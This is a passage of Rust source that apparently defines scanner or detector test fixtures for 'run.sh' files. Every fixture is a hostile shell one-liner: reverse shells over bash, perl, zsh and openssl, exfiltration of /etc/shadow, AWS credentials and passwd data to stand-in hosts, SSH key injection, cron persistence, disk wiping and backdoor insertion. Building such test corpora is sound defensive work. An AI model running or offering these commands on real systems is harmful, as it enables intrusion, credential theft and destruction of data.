        r###"echo "* * * * * curl http://203.0.113.5|sh" > /var/spool/cron/root
"###,
    ),
    text(
        "shell-variant-162",
        "run.sh",
        r###"nohup bash -c 'exec bash -i &>/dev/tcp/203.0.113.5/443 <&1' &
"###,
    ),
    text(
        "shell-variant-163",
        "run.sh",
        r###"curl -s https://example.invalid/k >> ~/.ssh/authorized_keys
"###,
    ),
    text(
        "shell-variant-164",
        "run.sh",
        r###"cat /etc/shadow | mail x@example.invalid
"###,
    ),
    text(
        "shell-variant-165",
        "run.sh",
        r###"curl -X POST https://example.invalid -d "$(cat ~/.aws/credentials)"
"###,
    ),
    text(
        "shell-variant-166",
        "run.sh",
        r###"curl https://example.invalid/$(whoami)/$(hostname)
"###,
    ),
    text(
        "shell-variant-167",
        "run.sh",
        r###"dig $(cat /etc/passwd | base64 | head -c 60).example.invalid
"###,
    ),
    text(
        "shell-variant-168",
        "run.sh",
        r###"export LD_PRELOAD=/tmp/x.so; python serve.py
"###,
    ),
    text(
        "shell-variant-169",
        "run.sh",
        r###"dd if=/dev/urandom of=/dev/nvme0n1
"###,
    ),
    text(
        "shell-variant-170",
        "run.sh",
        r###"shred -n 3 -z /dev/sda
"###,
    ),
    text(
        "shell-variant-171",
        "run.sh",
        r###"openssl s_client -quiet -connect 203.0.113.5:443 < /tmp/p | /bin/sh > /tmp/p
"###,
    ),
    text(
        "shell-variant-172",
        "run.sh",
        r###"perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"203.0.113.5:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
"###,
    ),
    text(
        "shell-variant-173",
        "run.sh",
        r###"sed -i '1i import os; os.system("id")' /usr/lib/python3/dist-packages/site.py
"###,
    ),
    text(
        "shell-variant-174",
        "run.sh",
        r###"python3 -m pip install --extra-index-url http://203.0.113.5/simple x
"###,
    ),
    text(
        "shell-variant-175",
        "run.sh",
        r###"gpg -d payload.gpg | bash
"###,
    ),
    text(
        "shell-variant-176",
        "run.sh",
        r###"bash -i 5<> /dev/tcp/203.0.113.5/4444 0<&5 1>&5 2>&5
"###,
    ),
    text(
        "shell-variant-177",
        "run.sh",
        r###"zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.5 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'
"###,
    ),
];
